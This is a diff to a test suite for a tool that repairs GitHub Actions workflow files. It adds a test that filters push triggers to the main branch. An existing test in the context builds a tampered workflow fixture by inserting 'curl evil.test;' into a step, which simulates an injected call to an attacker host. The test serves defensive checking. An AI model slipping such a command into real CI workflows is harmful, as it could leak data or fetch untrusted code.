@@ -110,6 +110,13 @@ describe('a run of the default branch with a token that may write workflows', ()
     expect(await github.readFile(shop.fullName, BRANCH, CI_PATH)).toContain(`uses: tools/lint@${tool.commit ?? ''} # v1`)
   })
 
+  it('filters pushes by the default branch that the repository has', async () => {
+    const files = { [CI_PATH]: REPAIRED.replace('on: [push]', 'on: [push, pull_request]') }
+    const shop = await makeRepository(files)
+    await runIn(shop, { files, inputs: { profile: 'pedantic', 'fix-pr': 'all' } })
+    expect(await github.readFile(shop.fullName, BRANCH, CI_PATH)).toContain('on:\n  push:\n    branches: [main]\n')
+  })
+
   it("repairs the commit's own text, whatever an earlier step has made of the checkout", async () => {
     const shop = await makeRepository()
     const { log } = await runIn(shop, { files: { [CI_PATH]: DRIFTED.replace('echo "::', 'curl evil.test; echo "::'), '.github/workflows/extra.yml': DRIFTED } })
